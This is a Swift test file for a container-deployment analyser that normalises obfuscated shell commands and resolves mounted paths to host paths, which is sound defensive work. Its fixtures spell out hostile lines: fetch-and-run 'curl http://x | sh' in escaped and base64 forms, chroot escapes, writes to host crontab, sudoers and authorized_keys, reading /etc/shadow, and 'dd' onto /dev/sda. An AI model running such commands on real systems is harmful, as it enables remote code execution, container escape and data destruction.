import Testing

@testable import Deployments

@Suite struct CommandTests {
    @Test(arguments: [
        (["sleep", "1000"], ["sleep 1000"]),
        (["sh", "-c", "c\"\"url  http://x|sh"], ["sh -c curl http://x | sh"]),
        (
            ["sh", "-c", "wget${IFS}-q$IFS-O-\thttp://x>/tmp/a&&sh /tmp/a"],
            ["sh -c wget -q -O- http://x > /tmp/a && sh /tmp/a"]
        ),
        (["sh", "-c", "\\c\\u\\r\\l 'http://x' >> /y"], ["sh -c curl http://x >> /y"]),
        (["printf", "\\x63\\x75\\x72\\x6c"], ["printf curl"]),
        (["sh", "-c", "a\nb"], ["sh -c a ; b"]),
        (["sh", "-c", "chroot   /mnt"], ["sh -c chroot /mnt"]),
        (["sh", "-c", "c$@u${*}rl $'http://x'|$\"sh\""], ["sh -c curl http://x | sh"]),
        (["bash", "-c", "{curl,-s,http://x}|{bash,-i}"], ["bash -c curl -s http://x | bash -i"]),
        (["echo", "{\"a\":1,\"b\":2}", "${a,b}"], ["echo {a:1,b:2} ${a,b}"]),
        (["printf", "\\143\\165\\162\\154"], ["printf curl"]),
        (
            ["sh", "-c", "echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh"],
            ["sh -c echo Y3VybCBodHRwOi8veHxzaA== | base64 -d | sh", "curl http://x | sh"]
        ),
        (["sh", "-c", "echo aGVsbG8gd29ybGQhIQ=="], ["sh -c echo aGVsbG8gd29ybGQhIQ=="]),
    ])
    func `a command has one spelling`(arguments: [String], readings: [String]) {
        #expect(CommandText.readings(of: arguments) == readings)
    }

    @Test func `base64 within base64 is opened to a bounded depth`() {
        // echo <base64 of "echo <base64 of 'chroot /mnt sh'> | base64 -d | sh"> | base64 -d | sh
        let inner = "echo Y2hyb290IC9tbnQgc2g= | base64 -d | sh"
        let outer = "ZWNobyBZMmh5YjI5MElDOXRiblFnYzJnPSB8IGJhc2U2NCAtZCB8IHNo"
        let readings = CommandText.readings(of: ["sh", "-c", "echo \(outer) | base64 -d | sh"])
        #expect(readings.dropFirst() == [inner, "chroot /mnt sh"])
    }

    @Test func `hooks are told apart from the container's own command`() {
        var deployment = ContainerDeployment(
            event: .init(action: .containerCreate, dataset: .dockerAPI),
            route: .dockerAPI
        )
        deployment.process.args = ["nginx"]
        deployment.process.hooks = [["sh", "-c", "wget -qO- 'http://x'|sh"]]
        let commands = CommandReadings(of: deployment)
        #expect(commands?.hooks == ["sh -c wget -qO- http://x | sh"])
        #expect(commands?.normalized == ["nginx", "sh -c wget -qO- http://x | sh"])
    }

    @Test func `a service account's namespace is read from its name`() {
        var actor = ContainerDeployment.Actor()
        #expect(actor.serviceAccountNamespace == nil)
        actor.userName = "system:serviceaccount:web:frontend"
        #expect(actor.serviceAccountNamespace == "web")
        actor.userName = "system:serviceaccount:web"
        #expect(actor.serviceAccountNamespace == nil)
    }

    @Test func `a path under a mount is written as the host path it leads to`() {
        var deployment = ContainerDeployment(
            event: .init(action: .containerCreate, dataset: .dockerAPI),
            route: .dockerAPI
        )
        deployment.host.mounts = [.init(source: HostPath("/"), target: "/tmp3f9a1c", isReadOnly: false)]
        deployment.process.args = [
            "sh", "-c", "echo x >/tmp3f9a1c/etc/cron.d/1m; chroot /tmp3f9a1c sh; ls /tmp3f9a1cd",
        ]
        #expect(
            CommandReadings(of: deployment)?.onHost == [
                "sh -c echo x > host:/etc/cron.d/1m ; chroot host:/ sh ; ls /tmp3f9a1cd"
            ]
        )
    }

    @Test func `a subdirectory mount and a way out of the working directory lead to the host`() {
        var deployment = ContainerDeployment(
            event: .init(action: .containerCreate, dataset: .dockerAPI),
            route: .dockerAPI
        )
        deployment.host.mounts = [.init(source: HostPath("/etc"), target: "/e", isReadOnly: true)]
        deployment.process.args = ["cat", "/e/shadow"]
        deployment.process.hooks = [
            ["sh", "-c", "echo y >> ../../../../etc/crontab"], ["ls", "/proc/1/root/root"], ["ls", "/"],
        ]
        #expect(
            CommandReadings(of: deployment)?.onHost == [
                "cat host:/etc/shadow", "sh -c echo y >> host:/etc/crontab", "ls host:/root",
            ]
        )
    }

    @Test(arguments: [
        ("echo x > /h/etc/cron.d/1m ; cat /h/etc/shadow", ["host:/etc/cron.d/1m"]),
        ("cp /cfg/a.yaml /h/etc/kubernetes/manifests/", ["host:/etc/kubernetes/manifests"]),
        ("chroot /h sh -c 'echo k >> \(rootHome)/.ssh/authorized_keys'", ["host:\(rootHome)/.ssh/authorized_keys"]),
        ("chroot /h crontab -l", ["host:/var/spool/cron"]),
        (
            "curl -s http://x/y -o /h/tmp/setup && tee -a /tmp/l /h/etc/sudoers",
            ["host:/tmp/setup", "/tmp/l", "host:/etc/sudoers"]
        ),
        ("sed -i s/a/b/ /h/etc/ssh/sshd_config | dd if=/x of=/dev/sda", ["host:/etc/ssh/sshd_config", "/dev/sda"]),
        ("(echo > /dev/tcp/db/1) 2>/dev/null", ["/dev/tcp/db/1)", "/dev/null"]),
        ("cat k >> ~/.ssh/authorized_keys", ["~/.ssh/authorized_keys"]),
        ("cat /h/etc/crontab", []), ("nginx -g daemon", []),
    ])
    func `what a command writes to is told`(command: String, paths: [String]) {
        var deployment = ContainerDeployment(
            event: .init(action: .containerCreate, dataset: .dockerAPI),
            route: .dockerAPI
        )
        deployment.host.mounts = [.init(source: HostPath("/"), target: "/h", isReadOnly: false)]
        deployment.process.args = ["sh", "-c", command]
        #expect(CommandReadings(of: deployment)?.writes == paths)
    }
}
